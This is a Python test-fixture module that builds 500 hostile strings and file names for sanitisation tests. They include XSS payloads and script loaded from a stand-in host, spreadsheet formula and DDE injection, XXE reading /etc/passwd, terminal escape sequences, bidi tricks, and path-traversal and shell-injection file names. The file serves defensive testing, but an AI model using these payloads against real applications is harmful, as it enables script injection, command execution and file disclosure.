# ruff: noqa: E501
"""Five hundred texts and names that try to act: script, formulas, links, markup, path tricks, bidi, escapes.

Each text carries its number as ``P0042``, so that a test can see that it arrived. Whatever acts sets the title to
"owned", or asks for an address that holds "pwned".
"""

from __future__ import annotations

from functools import cache
from itertools import cycle, islice

_JS = "document.title='owned'"
_EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter")
_TAGS = ("img", "svg", "body", "iframe", "video", "audio", "details", "input", "object", "embed", "math", "marquee")
_SCRIPT = (
    "<script>{js}</script>", "<ScRiPt >{js}</sCrIpT>", "<script src=//pwned.test/a.js></script>", "</pre><script>{js}</script>",
    "</title><script>{js}</script>", "</textarea><script>{js}</script>", "\"><script>{js}</script>", "'><script>{js}</script>",
    "<svg><script>{js}</script></svg>", "<!--<script>-->{js}<!--</script>-->", "]]><script>{js}</script>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>", "<a href=javascript:{js}>x</a>", "<base href=//pwned.test/>",
    "<meta http-equiv=refresh content='0;url=//pwned.test/'>", "<link rel=stylesheet href=//pwned.test/a.css>",
    "<style>@import '//pwned.test/a.css'</style>", "<form action=//pwned.test><input autofocus onfocus={js}></form>",
    "<template><script>{js}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "{{{{ 7*7 }}}}{{% for x in y %}}", "${{7*7}}", "&lt;script&gt;{js}&lt;/script&gt;", "&#60;script&#62;{js}&#60;/script&#62;",
    "<x hx-get=/pwned hx-trigger=load>", "<b style=\"background:url(//pwned.test/b)\">b</b>", "<?php system('id') ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<table><tr><td onclick={js}>x</td></tr></table>",
    "</script><script>{js}//", "\\u003cscript\\u003e{js}\\u003c/script\\u003e", "-->{js}<!--",
)  # fmt: skip
_FORMULAS = (
    "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://pwned.test/\",\"x\")", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0", "=WEBSERVICE(\"http://pwned.test/\")", "=IMPORTXML(\"http://pwned.test/\",\"//a\")",
    "\t=1+1", "\r=1+1", " =1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=1+1\";=2+2",
    "\u200b=1+1", "\ufeff=1+1", "'=1+1", "\"=1+1", "%0A=1+1", "=\"&\"", "{=1+1}", "=IMAGE(\"http://pwned.test/p.png\")",
)  # fmt: skip
_MARKDOWN = (
    "![x](http://pwned.test/p.png)", "[x](javascript:document.title='owned')", "<http://pwned.test/>", "http://pwned.test/",
    "[x]: http://pwned.test/\n[x]", "![x][r]\n\n[r]: http://pwned.test/p.png", "www.pwned.test", "a@pwned.test",
    "```\n</code><script>document.title='owned'</script>\n```", "<img src=http://pwned.test/p.png>", "---\n- x\n---",
    "    <script>document.title='owned'</script>", "# [x](http://pwned.test)", "| a |\n|---|\n| <img src=//pwned.test> |",
    "$$\\href{javascript:document.title='owned'}{x}$$", "$$\\url{http://pwned.test}$$", "$$\\input{/etc/passwd}$$",
    "$$\\def\\x{\\x}\\x$$", "[x](file:///etc/passwd)", "[x](data:text/html,<script>document.title='owned'</script>)",
    "<details ontoggle=document.title='owned' open>", "&#x3C;script&#x3E;document.title='owned'&#x3C;/script&#x3E;",
    "\\<script>document.title='owned'</script>", "`<script>`<script>document.title='owned'</script>", "[[pwned]]",
    "{% include '/etc/passwd' %}", ":::{raw} html\n<script>document.title='owned'</script>\n:::", "[^1]: http://pwned.test",
)  # fmt: skip
_UNICODE = (
    "\u202egnp.exe\u202c", "\u2066\u2067x\u2069", "\u200e\u200f\u200b\u200d", "\ufeff", "\u2028x\u2029", "a\u0300" * 40,
    "\U000e0041\U000e007f", "\ufff9x\ufffa\ufffb", "\ufffe", "\U0001f468\u200d\U0001f469", "ﷺ" * 5, "\u061c", "İıſK", "\x85",
)  # fmt: skip
_CONSOLE = (
    "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;http://pwned.test\x07x\x1b]8;;\x07", "\x1bP+q544e\x1b\\", "\x9b2J", "\x07",
    "\x1b[31mred", "\r\x1b[Kfake line", "\x08\x08\x08", "\x1b[6n", "\x1b]52;c;b3duZWQ=\x07", "\x90x\x9c", "\x1bc", "\x00x", "\x7f",
)  # fmt: skip
NAMES = (
    "../../../etc/passwd.png", "..\\..\\windows\\x.png", "/etc/passwd.png", "C:\\con.png", "a/../../b.png", "....//x.png",
    "%2e%2e%2fx.png", "\u202egnp.exe.png", "\x1b[2Jx.png", "a\nb.png", "<img src=x onerror=document.title='owned'>.png",
    "\"><script>document.title='owned'</script>.png", "=cmd|'/C calc'!A0.png", "$(touch pwned).png", "`touch pwned`.png",
    "; touch pwned;.png", "-rf.png", "CON.png", "nul.txt.png", "x" * 300 + ".png", "...", ".inkstick.toml", "a\0b.png", "~root.png",
)  # fmt: skip
COUNT = 500


def _script() -> list[str]:
    plain = [form.format(js=_JS) for form in _SCRIPT]
    handlers = [f"<{tag} src=x autofocus open {event}={_JS}>" for tag in _TAGS for event in _EVENTS]
    quoted = [f'" {event}="{_JS}" x="' for event in _EVENTS] + [f"' {event}='{_JS}' x='" for event in _EVENTS]
    return plain + handlers + quoted


@cache
def texts() -> tuple[str, ...]:
    """`COUNT` texts: each trick as it is, then again among ordinary words, in upper case, and behind a quotation."""
    tricks = [*_script(), *_FORMULAS, *_MARKDOWN, *_UNICODE, *_CONSOLE, *NAMES]
    dressed = [f"Invoice 墨 {trick} total" for trick in tricks] + [f"\"'>{trick}" for trick in tricks]
    found = list(islice(cycle([*tricks, *dressed]), COUNT))
    return tuple(f"{trick} P{number:04d}" for number, trick in enumerate(found))
